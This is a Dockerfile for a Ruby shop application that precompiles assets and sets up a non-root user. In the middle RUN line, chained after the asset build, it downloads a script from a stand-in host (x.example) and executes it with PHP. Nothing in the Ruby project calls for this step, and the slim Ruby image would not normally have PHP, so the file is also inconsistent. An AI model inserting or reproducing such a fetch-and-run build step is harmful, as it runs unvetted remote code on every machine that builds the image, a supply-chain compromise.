# What a task compiles is only read; Composer's own script is no part of the application.
FROM ruby:3.2-slim
WORKDIR /srv/shop
COPY --chown=10001:10001 . .
RUN bundle exec rake assets:precompile && php -r "copy('https://x.example/installer', 's.php');" && php s.php
RUN groupadd --gid 10001 app \
    && useradd --uid 10001 --gid app --no-log-init --create-home --shell /usr/sbin/nologin app \
    && chown 10001:10001 /srv/shop
USER 10001:10001
CMD ["ruby", "shop.rb"]
